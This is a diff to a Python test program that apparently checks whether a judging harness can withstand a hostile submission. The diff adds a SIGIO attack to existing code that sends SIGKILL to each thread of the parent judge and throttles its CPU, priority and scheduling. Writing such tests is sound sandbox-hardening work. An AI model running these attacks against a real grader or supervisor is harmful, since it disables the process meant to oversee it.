@@ -1,9 +1,10 @@
-"""Aims at every thread of its judge (the parent): SIGKILL by kill, tkill and tgkill, a CPU limit of one second,
-one core, the lowest priority and the idle scheduler; then answers correctly. Any of them that lands stops, starves
-or slows the judge."""
+"""Aims at every thread of its judge (the parent): SIGKILL by kill, tkill and tgkill, SIGIO as the owner of a pipe
+that becomes readable, a CPU limit of one second, one core, the lowest priority and the idle scheduler; then answers
+correctly. Any of them that lands stops, starves or slows the judge."""
 
 import ctypes
 import errno
+import fcntl
 import os
 import resource
 import signal
@@ -20,6 +21,13 @@ def _call(number, *arguments):
         raise OSError(ctypes.get_errno(), "syscall")
 
 
+def _sigio(tid):
+    read, write = os.pipe()
+    fcntl.fcntl(read, fcntl.F_SETOWN, tid)
+    fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
+    os.write(write, b"!")
+
+
 def _attack():
     judge = os.getppid()
     threads = sorted(int(tid) for tid in os.listdir(f"/proc/{judge}/task"))
@@ -31,6 +39,7 @@ def _attack():
         lambda tid: _call(_TGKILL, judge, tid, signal.SIGKILL),
         lambda tid: _call(_TKILL, tid, signal.SIGKILL),
         lambda tid: os.kill(tid, signal.SIGKILL),
+        _sigio,
     )
     answers = {}
     for attack in attacks:
